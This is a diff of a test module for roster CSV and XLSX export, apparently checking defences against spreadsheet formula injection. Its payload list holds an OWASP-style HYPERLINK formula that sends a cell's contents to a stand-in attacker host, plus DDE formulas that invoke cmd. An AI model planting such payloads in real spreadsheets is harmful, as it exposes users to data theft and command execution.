@@ -16,8 +16,9 @@ from roster.output import write_roster_csv
 from roster.report.build import check_view
 from roster.report.xlsx import write_xlsx
 
-# OWASP CSV injection payloads (leading whitespace is stripped by the models, so tab/CR go inside)
-PAYLOADS = ['=HYPERLINK("http://angriper.example/?x="&A1;"klikk")', "+1+cmd|' /C calc'!A0", "-2+3",
+# OWASP CSV injection payloads (leading whitespace is stripped by the models, so tab/CR go inside;
+# a doctor's name may not hold «;», so the HYPERLINK's arguments are split by a comma)
+PAYLOADS = ['=HYPERLINK("http://angriper.example/?x="&A1,"klikk")', "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
 
 
